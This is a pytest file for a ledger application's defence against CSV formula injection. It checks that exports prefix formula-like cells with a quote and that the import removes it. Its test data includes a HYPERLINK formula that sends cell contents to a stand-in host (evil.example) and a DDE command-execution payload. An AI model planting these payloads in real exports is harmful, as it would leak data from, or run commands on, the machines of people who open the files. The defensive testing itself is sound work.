"""CSV formula injection: cells a spreadsheet would run get a leading ', the import removes it."""

import csv
import io

import pytest

from aid.export import ledger_querysets, stream_csv
from aid.formulas import neutralise, restore
from aid.importing import import_ledger
from aid.models import Pledge
from tests.builders import rate, record

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by its author",
    "''=two quotes",
]
HARMLESS = ["'s-Hertogenbosch", "'", "-5", "+1.50", "plain text", "", "a=b"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_with_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-٣", "+١.٥"])
def test_signed_digits_a_spreadsheet_reads_as_text_are_quoted_and_restored(value):
    """Arabic-Indic digits are no number to Excel or LibreOffice; the COPY export agrees
    (tests/test_export_copy.py)."""
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_and_plain_numbers_are_written_as_they_are(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", FORMULAS + HARMLESS)
def test_the_import_reverses_exactly_the_quote_it_added(value):
    assert restore(neutralise(value)) == value


@pytest.fixture
def formula_ledger():
    rate("USD", "2025-08-01", "1.1600")
    for number, text in enumerate(FORMULAS[:5] + FORMULAS[7:] + HARMLESS[:1], start=1):
        record(ref=f"NL-F{number}", donor="NL", date="2025-08-04", amount="5", description=text)
    record(
        ref="NL-TITLE", donor="NL", date="2025-08-04", amount="7", source_title="=HYPERLINK(1)", description="x"
    )  # fmt: skip


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_ledger_export_neutralises_descriptions_and_titles_not_amounts_or_dates(formula_ledger):
    rows = {row["ref"]: row for row in rows_of("".join(stream_csv(ledger_querysets())))}
    assert rows["NL-F1"]["description"] == "'" + FORMULAS[0]
    assert rows["NL-F2"]["description"] == "'=cmd|' /C calc'!A0"
    assert rows["NL-F6"]["description"] == "''=already quoted by its author"
    assert rows["NL-F8"]["description"] == "'s-Hertogenbosch"
    assert rows["NL-TITLE"]["source_title"] == "'=HYPERLINK(1)"
    assert {row["amount"] for row in rows.values()} == {"5", "7"}  # as written (issue 11)
    assert {row["date"] for row in rows.values()} == {"2025-08-04"}


def test_export_import_export_is_byte_identical_and_keeps_every_description(formula_ledger):
    stored = dict(Pledge.objects.values_list("ref", "description"))
    exported = "".join(stream_csv(ledger_querysets()))
    again = import_ledger(exported)
    assert again.ok, again.problems
    assert again.refs("created") == [] and again.refs("updated") == []
    assert dict(Pledge.objects.values_list("ref", "description")) == stored
    assert "".join(stream_csv(ledger_querysets())) == exported


def test_every_api_csv_neutralises(client, formula_ledger):
    for url in ("/api/v1/pledges/?format=csv", "/api/v1/pledges/NL-F1/?format=csv"):
        body = b"".join(client.get(url).streaming_content).decode()
        descriptions = [row["description"] for row in rows_of(body)]
        assert all(not text.startswith(("=", "+", "-", "@")) for text in descriptions), descriptions


def test_the_admin_csv_export_neutralises(admin_client, formula_ledger):
    ids = list(Pledge.objects.values_list("pk", flat=True))
    response = admin_client.post(
        "/admin/aid/pledge/", {"action": "export_csv", "_selected_action": ids}
    )  # fmt: skip
    body = b"".join(response.streaming_content).decode()
    assert "'=cmd|' /C calc'!A0" in body and "\n=" not in body and ",=" not in body
